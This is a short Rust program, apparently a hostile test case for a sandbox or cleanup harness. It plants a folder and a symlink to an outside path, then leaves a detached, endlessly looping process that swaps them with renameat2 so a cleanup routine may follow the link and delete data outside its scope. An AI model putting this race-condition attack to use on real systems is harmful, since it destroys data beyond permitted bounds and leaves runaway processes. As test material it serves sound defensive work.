// hostile: leaves a process that swaps a folder and a link to outside as fast as it can, while somebody cleans up
// verdict: left-behind
// leaves: processes
// layers: L1
// control: never

use std::{env, ffi::c_char, fs, os::unix::fs::symlink};

unsafe extern "C" {
    safe fn fork() -> i32;
    safe fn setsid() -> i32;
    fn renameat2(from: i32, old: *const c_char, to: i32, new: *const c_char, flags: u32) -> i32;
}

fn main() {
    const AT_FDCWD: i32 = -100;
    const RENAME_EXCHANGE: u32 = 2;
    let outside = env::args_os().nth(1).unwrap();
    fs::create_dir("folder").unwrap();
    fs::write("folder/bait.txt", "not this one").unwrap();
    symlink(outside, "link").unwrap();
    if fork() == 0 {
        setsid();
        loop {
            // SAFETY: paths that end.
            unsafe { renameat2(AT_FDCWD, c"folder".as_ptr(), AT_FDCWD, c"link".as_ptr(), RENAME_EXCHANGE) };
        }
    }
}
